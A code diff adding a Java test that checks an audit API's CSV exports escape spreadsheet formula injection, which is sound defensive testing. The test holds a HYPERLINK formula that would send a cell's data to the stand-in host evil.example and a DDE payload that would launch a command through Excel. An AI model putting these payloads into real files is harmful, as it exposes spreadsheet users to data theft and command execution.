@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import java.io.ByteArrayInputStream;
+import java.io.StringReader;
 import java.net.URI;
 import java.net.URLEncoder;
 import java.net.http.HttpClient;
@@ -14,6 +15,8 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.text.PDFTextStripper;
@@ -160,6 +163,36 @@ class AuditApiTest {
         assertThat(verify.get("headHash").asText()).matches("[0-9a-f]{64}");
         JsonNode trailJson = json.readTree(get("thanhtra", "/api/audit/nominations/" + codes.get(0) + "/trail").body());
         assertThat(trailJson.get("chainHeadHash").asText()).matches("[0-9a-f]{64}").isNotEqualTo(AuditLog.GENESIS);
+    }
+
+    @Test
+    void csvExportsNeutraliseCellsAFormulaCouldHideIn() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem hồ sơ\")";
+        String code = workflow.start(dossier(formula, "012345000099", 2018), "xa.pusamcap");
+
+        String searchCsv = new String(getBytes("/api/audit/nominations/export?format=csv&idNumber=012345000099").body(), StandardCharsets.UTF_8);
+        List<CSVRecord> records = CSVFormat.EXCEL.parse(new StringReader(searchCsv.substring(1))).getRecords();
+        assertThat(records).hasSize(2);
+        assertThat(records.get(1).get(0)).isEqualTo(code);
+        assertThat(records.get(1).get(1)).isEqualTo("'" + formula);
+        // The year is a number column and stays a number.
+        assertThat(records.get(1).get(7)).isEqualTo("2018");
+
+        String trailCsv = new String(getBytes("/api/audit/nominations/" + code + "/trail.csv").body(), StandardCharsets.UTF_8);
+        for (CSVRecord r : CSVFormat.EXCEL.parse(new StringReader(trailCsv.substring(1))).getRecords()) {
+            for (String cell : r) {
+                assertThat(cell).as("trail CSV cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
+            }
+        }
+
+        // Ordinary values are unchanged; a leading tab or CR (which Excel skips) does not let a formula through.
+        assertThat(TrailExports.text("Lò Thị Dung")).isEqualTo("Lò Thị Dung");
+        assertThat(TrailExports.text("Ngày 01/02/2025 - họp")).isEqualTo("Ngày 01/02/2025 - họp");
+        assertThat(TrailExports.text("")).isEmpty();
+        assertThat(TrailExports.text(null)).isNull();
+        for (String bad : List.of("=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1")) {
+            assertThat(TrailExports.text(bad)).isEqualTo("'" + bad);
+        }
     }
 
     private List<String> names(JsonNode page) {
